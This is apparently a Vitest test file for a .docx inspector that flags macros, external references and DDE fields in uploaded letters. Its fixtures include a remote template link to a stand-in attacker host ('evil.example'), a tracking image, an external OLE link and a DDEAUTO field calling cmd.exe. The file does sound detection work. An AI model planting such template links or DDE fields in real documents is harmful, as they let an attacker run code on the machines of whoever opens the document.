import { describe, expect, it } from 'vitest';
import { inspectDocxParts } from '../../src/ingest/inspectDocxParts.js';
import { DOCM_MAIN, documentXml } from './zipBuilder.js';

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function parts(extra: Record<string, string>, main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml') {
  return new Map<string, Buffer>(
    Object.entries({
      '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
      'word/document.xml': documentXml(['Dear Priya Raman,']),
      ...extra,
    }).map(([k, v]) => [k, Buffer.from(v)]),
  );
}

const codes = (p: Map<string, Buffer>) => inspectDocxParts(p).map((n) => n.code);

describe('inspectDocxParts', () => {
  it('finds nothing to report in a plain letter with a hyperlink', () => {
    const rels = `<Relationships><Relationship Id="rId9" Type="${REL}/hyperlink" Target="https://northwind.example" TargetMode="External"/></Relationships>`;
    expect(codes(parts({ 'word/_rels/document.xml.rels': rels }))).toEqual([]);
  });

  it('reports macros from the vbaProject part, from a .docm content type, and from ActiveX controls', () => {
    expect(codes(parts({ 'word/vbaProject.bin': 'VBA' }))).toEqual(['DOCUMENT_HAS_MACROS']);
    expect(codes(parts({}, DOCM_MAIN))).toEqual(['DOCUMENT_HAS_MACROS']);
    expect(codes(parts({ 'word/activeX/activeX1.xml': '<ax/>' }))).toEqual(['DOCUMENT_HAS_MACROS']);
  });

  it('reports a remote template in settings.xml.rels (template injection), an external image and an OLE link', () => {
    const template = `<Relationships><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
    expect(codes(parts({ 'word/_rels/settings.xml.rels': template }))).toEqual(['DOCUMENT_EXTERNAL_REFERENCES']);
    const image = `<Relationships><Relationship Id="rId2" Target="https://tracker.example/p.png" TargetMode="External" Type="${REL}/image"/></Relationships>`;
    expect(codes(parts({ 'word/_rels/header1.xml.rels': image }))).toEqual(['DOCUMENT_EXTERNAL_REFERENCES']);
    const ole = `<Relationships><Relationship Id="rId3" Type="${REL}/oleObject" Target="file:///c:/x.xls" TargetMode="External"/></Relationships>`;
    expect(codes(parts({ 'word/_rels/document.xml.rels': ole }))).toEqual(['DOCUMENT_EXTERNAL_REFERENCES']);
  });

  it('reports a DDE field even when its instruction is split across runs', () => {
    const xml = '<w:document><w:body><w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p></w:body></w:document>';
    const found = inspectDocxParts(parts({ 'word/document.xml': xml }));
    expect(found.map((n) => n.code)).toEqual(['DOCUMENT_EXTERNAL_REFERENCES']);
    expect(found[0].message).toMatch(/DDE/);
  });

  it('refuses a zip that is a spreadsheet, not a letter', () => {
    const sheet = new Map([['[Content_Types].xml', Buffer.from('<Types><Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')]]);
    expect(() => inspectDocxParts(sheet)).toThrow(expect.objectContaining({ code: 'UNSUPPORTED_MEDIA_TYPE' }));
  });
});
